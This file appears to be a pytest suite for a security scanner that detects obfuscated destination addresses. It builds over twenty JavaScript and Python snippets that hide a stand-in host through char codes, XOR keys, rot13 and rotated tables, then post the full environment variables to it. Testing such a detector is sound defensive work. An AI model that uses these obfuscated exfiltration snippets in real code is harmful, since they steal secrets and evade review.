"""Addresses that pure code computes are resolved, and shown as hidden where reading the code does not show them.

In: one file's text. Out: the destination that the scan names, and whether it is hidden.
"""

from __future__ import annotations

import codecs
import json
import random
import shutil
import subprocess
import sys

import pytest

from mcp_sast import scan_source

HOST = "https://gather.lantern.example/in"
CODES = [ord(one) for one in HOST]
MIXED = [one ^ 23 for one in CODES]
SHIFTED = "".join(chr(one + 1) for one in CODES)
ROLLED = [one ^ [7, 9, 11][index % 3] for index, one in enumerate(CODES)]
PIECES = json.dumps({"a": HOST[:10], "b": HOST[10:21], "c": HOST[21:]})

JAVASCRIPT = {
    "map of codes": f'const P={CODES};U=P.map((n)=>String.fromCharCode(n)).join("");',
    "counting loop": f'const P={[n + 1 for n in CODES]};let U="";for(let i=0;i<P.length;i++) U+=String.fromCharCode(P[i]-1);',
    "buffer": f"const P={MIXED};const k=23;U=Buffer.from(P.map(b=>b^k)).toString();",
    "letters": f'U="{codecs.encode(HOST, "rot13")}".replace(/[a-z]/g,c=>String.fromCharCode((c.charCodeAt(0)-97+13)%26+97));',
    "spread": f"U=String.fromCharCode(...{CODES});",
    "reduce": f'U={CODES}.reduce((a,n)=>a+String.fromCharCode(n),"");',
    "function": f'function d(a,k){{let o="";let i=0;while(i<a.length){{o+=String.fromCharCode(a[i]^k);i++}}return o}} U=d({MIXED},23);',
    "rolling key": f'const K=[7,9,11];const d=a=>a.map((b,i)=>String.fromCharCode(b^K[i%K.length])).join("");U=d({ROLLED});',
    "table": f'const T={PIECES};U=["a","b","c"].map(k=>T[k]).join("");',
    "rotated table": (
        f"const t=['{HOST[21:]}','{HOST[:10]}','{HOST[10:21]}'];(function(a,n){{while(n--)a.push(a.shift())}})(t,1);"
        "const g=i=>t[i-5];U=g(5)+g(6)+g(7);"
    ),
    "flattened": (
        f"const P={CODES};let o='',i=0,s='2|0|1'.split('|'),n=0,run=true;while(run){{switch(s[n++]){{case '2':i=0;continue;"
        "case '0':while(i<P.length){o+=String.fromCharCode(P[i]);i++}continue;case '1':run=false;continue;}break;}U=o;"
    ),
}
PYTHON = {
    "map of codes": f'U = "".join(map(chr, {CODES}))',
    "bytes": f"U = bytes({CODES}).decode()",
    "generator": f"U = bytes(b ^ 23 for b in {MIXED}).decode()",
    "loop": f'U = ""\nfor c in {SHIFTED!r}:\n    U += chr(ord(c) - 1)',
    "reduce": f'import functools\nU = functools.reduce(lambda a, n: a + chr(n), {CODES}, "")',
    "while": f'P = {CODES}\ni = 0\nU = ""\nwhile i < len(P):\n    U += chr(P[i])\n    i += 1',
    "nested": f'def a(n):\n    return chr(n ^ 23)\ndef b(x):\n    return "".join(a(n) for n in x)\nU = b({MIXED})',
    "rolling key": f'K = [7, 9, 11]\nU = "".join(chr(c ^ K[i % len(K)]) for i, c in enumerate({ROLLED}))',
    "struct": f'import struct\nU = struct.pack("{len(CODES)}B", *{CODES}).decode()',
    "big number": f'U = ({int.from_bytes(HOST.encode(), "big")}).to_bytes({len(CODES)}, "big").decode()',
    "dict": f'T = {PIECES}\nU = "".join(T[k] for k in ("a", "b", "c"))',
    "reversed labels": 'U = "https://" + ".".join(reversed(["example", "lantern", "gather"]))',
}


def hidden(code: str, name: str) -> set[tuple[str, str]]:
    """The rules and levels reported for the host."""
    return {(one.rule, one.level) for one in scan_source(code, name).findings if one.destination == "gather.lantern.example"}


@pytest.mark.parametrize("way", JAVASCRIPT)
def test_javascript_that_computes_an_address_is_seen_through(way: str) -> None:
    begin = "" if "let U=" in JAVASCRIPT[way] else "let U;"
    found = hidden(f'{begin}{JAVASCRIPT[way]}fetch(U,{{method:"POST",body:JSON.stringify(process.env)}});', "a.mjs")
    assert {("hidden-destination", "error"), ("env-exfiltration", "error")} <= found


@pytest.mark.parametrize("way", PYTHON)
def test_python_that_computes_an_address_is_seen_through(way: str) -> None:
    found = hidden(f"import os, requests\n{PYTHON[way]}\nrequests.post(U, json=dict(os.environ))\n", "a.py")
    assert {("hidden-destination", "error"), ("env-exfiltration", "error")} <= found


@pytest.mark.parametrize(("code", "name"), [
    ('const parts=["https:","","gather.lantern.example","v1"];const u=parts.map(p=>p).join("/");fetch(u);', "a.mjs"),
    ('import requests\nU = "/".join(p for p in ["https:", "", "gather.lantern.example", "v1"])\nrequests.get(U)\n', "a.py"),
    ('const B="https://gather.lantern.example";const t="a-b".split("-").map(x=>x.charCodeAt(0)).join("");fetch(B+"/"+t);', "a.mjs"),
])
def test_what_is_plainly_written_is_not_hidden(code: str, name: str) -> None:
    assert not any(one.rule == "hidden-destination" for one in scan_source(code, name).findings)


def test_code_without_end_comes_to_an_end() -> None:
    scan_source('let s="";for(;;){s+=String.fromCharCode(65)}\nfetch(s)', "a.mjs")
    scan_source("import requests\ndef f(n):\n    return f(n + 1) + chr(n)\nrequests.get(f(1))\n", "a.py")
    scan_source("import requests\nU = bytes(10**12).decode() * 10**9\nrequests.get(U + chr(3))\n", "a.py")


def _expression(chance: random.Random, python: bool, depth: int) -> str:
    """A pure expression that gives a number or a text, as source text."""
    if depth == 0:
        return str(chance.randrange(0, 200))
    a, b = (_expression(chance, python, depth - 1) for _ in range(2))
    operator = chance.choice(["+", "-", "*", "^", "|", "&", "%", "<<", ">>"])
    if operator in ("<<", ">>"):
        return f"({a} {operator} {chance.randrange(0, 4)})"
    if operator == "%":
        return f"({a} % {chance.randrange(1, 90)})"
    return f"({a} {operator} {b})"


def _program(chance: random.Random, python: bool) -> str:
    numbers = ",".join(_expression(chance, python, chance.randrange(0, 3)) for _ in range(chance.randrange(3, 9)))
    turn = chance.choice(["n", "n ^ 7", "n - 3", "n * 3 + 1", "n >> 1"])
    if python:
        return f'"".join(chr(33 + abs({turn}) % 90) for n in [{numbers}])'
    return f'[{numbers}].map(n => String.fromCharCode(33 + Math.abs({turn}) % 90)).join("")'


@pytest.mark.parametrize("python", [True, False], ids=["CPython", "Node"])
def test_the_interpreter_agrees_with_the_languages(python: bool) -> None:
    from mcp_sast.evaluation.pure_code import PureCode
    from mcp_sast.pipeline import find_packages
    from mcp_sast.program.opening import open_program
    from mcp_sast.sources.tree import SourceFile, SourceTree

    if not python and shutil.which("node") is None:
        pytest.skip("there is no Node here")
    chance = random.Random(7)
    programs = [_program(chance, python) for _ in range(300)]
    name = "a.py" if python else "a.mjs"
    text = "\n".join((f"x{i} = {one}" if python else f"const x{i} = {one};") for i, one in enumerate(programs))
    tree = SourceTree(name, (SourceFile(name, text.encode()),), single_file=True)
    packages = find_packages(tree)
    computed = PureCode(open_program(tree, packages[0], packages, frozenset())).variables(name)
    shown = ",".join(f"x{i}" for i in range(len(programs)))
    end = f"\nimport json\nprint(json.dumps([{shown}]))" if python else f"\nconsole.log(JSON.stringify([{shown}]));"
    command = [sys.executable, "-c", text + end] if python else ["node", "--input-type=module", "-e", text + end]
    told = json.loads(subprocess.run(command, capture_output=True, check=True, text=True).stdout)
    assert [computed[f"x{i}"] for i in range(len(programs))] == told
